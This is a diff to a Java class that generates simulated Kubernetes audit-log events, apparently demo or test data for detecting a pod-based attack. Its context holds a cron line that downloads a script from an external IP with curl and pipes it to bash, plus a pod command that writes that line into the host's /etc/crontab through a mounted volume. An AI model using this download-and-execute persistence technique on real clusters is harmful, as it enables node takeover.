@@ -3,20 +3,29 @@ package io.firedamp.app.demo;
 import java.time.Instant;
 
 /** What kube-apiserver sends to an audit webhook at level RequestResponse. */
-final class AuditLog {
+public final class AuditLog {
   private static final String NODE = "node-1";
   private static final String CRONTAB =
       "* * * * * curl -s http://104.225.147.196:8220/logo3.jpg | bash -s";
   private int number;
 
+  /**
+   * A log of its own.
+   *
+   * @param firstNumber of its audit ids, which must differ between logs of one cluster
+   */
+  public AuditLog(int firstNumber) {
+    this.number = firstNumber;
+  }
+
   /** A pod as a controller makes it. */
-  String created(Pod pod, Instant time, String user) {
+  public String created(Pod pod, Instant time, String user) {
     return create(
         pod, time, user, "\"system:serviceaccounts\",\"system:authenticated\"", "10.0.0.2", "");
   }
 
   /** The pod of the attack, made by whoever asked, with the host's /etc inside. */
-  String createdByAnybody(Pod pod, Instant time) {
+  public String createdByAnybody(Pod pod, Instant time) {
     String command =
         ",\"command\":[\"bash\",\"-c\",\"echo '%s' >> /mnt/etc/crontab\"],\"volumeMounts\":[{\"name\":\"etc\",\"mountPath\":\"/mnt/etc\"}]"
             .formatted(CRONTAB);
@@ -25,7 +34,7 @@ final class AuditLog {
   }
 
   /** The scheduler's decision. */
-  String bound(Pod pod, Instant time) {
+  public String bound(Pod pod, Instant time) {
     return event(
         "create",
         "system:kube-scheduler",
@@ -42,7 +51,7 @@ final class AuditLog {
   }
 
   /** The kubelet's report: address, container, image digest. */
-  String running(Pod pod, Instant time) {
+  public String running(Pod pod, Instant time) {
     String status =
         """
         {"metadata":{"uid":"%s"},"status":{"phase":"Running","hostIP":"192.0.2.11","podIP":"%s","podIPs":[{"ip":"%s"}],\
@@ -125,7 +134,6 @@ final class AuditLog {
       String response,
       int code,
       Instant time) {
-    number++;
     return """
         {"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[{"level":"RequestResponse","auditID":\
         "00000000-0000-4000-8000-%012d","stage":"ResponseComplete","requestURI":"%s","verb":"%s","user":{"username":"%s",\
@@ -133,7 +141,7 @@ final class AuditLog {
         "responseObject":%s,"requestReceivedTimestamp":"%s","stageTimestamp":"%s","annotations":{\
         "authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":""}}]}"""
         .formatted(
-            number, uri, verb, user, groups, address, agent, objectRef, code, request, response,
+            number++, uri, verb, user, groups, address, agent, objectRef, code, request, response,
             time, time);
   }
 }
